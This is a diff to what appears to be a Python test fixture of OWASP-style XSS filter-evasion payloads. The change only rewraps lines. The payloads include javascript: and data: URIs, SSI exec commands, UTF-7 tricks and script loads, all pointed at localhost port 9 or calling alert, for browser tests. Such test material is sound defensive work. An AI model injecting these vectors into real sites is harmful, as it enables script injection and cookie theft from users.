@@ -1,4 +1,5 @@
-"""Attacks on what people open: after OWASP's pages on CSV injection and on evading filters against cross-site scripting.
+"""Attacks on what people open: after OWASP's pages on CSV injection and on evading filters against cross-site
+scripting.
 
 Addresses lead to port 9 of this machine, where nothing listens, and scripts call ``alert``, which the browser
 tests note.
@@ -123,7 +124,10 @@ MARKUP = [
     '<XSS STYLE="behavior: url(http://127.0.0.1:9/xss.htc);">',
     "¼script¾alert(¢XSS¢)¼/script¾",
     '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
-    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+    (
+        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html'
+        ' base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'
+    ),
     '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
     "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
     '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
@@ -138,12 +142,21 @@ MARKUP = [
     '<OBJECT TYPE="text/x-scriptlet" DATA="http://127.0.0.1:9/scriptlet.html"></OBJECT>',
     '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+" AllowScriptAccess="always">',
     '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
-    '<HTML><BODY><?xml:namespace prefix="t"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(\'XSS\')</SCRIPT>"></BODY></HTML>',
+    (
+        '<HTML><BODY><?xml:namespace prefix="t"><t:set attributeName="innerHTML" to="XSS<SCRIPT'
+        " DEFER>alert('XSS')</SCRIPT>\"></BODY></HTML>"
+    ),
     '<SCRIPT SRC="http://127.0.0.1:9/xss.jpg"></SCRIPT>',
-    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://127.0.0.1:9/xss.js></SCRIPT>'\"-->",
+    (
+        "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT"
+        " SRC=http://127.0.0.1:9/xss.js></SCRIPT>'\"-->"
+    ),
     "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
     '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
-    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-',
+    (
+        '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">'
+        " </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-"
+    ),
     '<SCRIPT a=">" SRC="http://127.0.0.1:9/xss.js"></SCRIPT>',
     '<SCRIPT ="blah" SRC="http://127.0.0.1:9/xss.js"></SCRIPT>',
     '<SCRIPT a=">\'>" SRC="http://127.0.0.1:9/xss.js"></SCRIPT>',
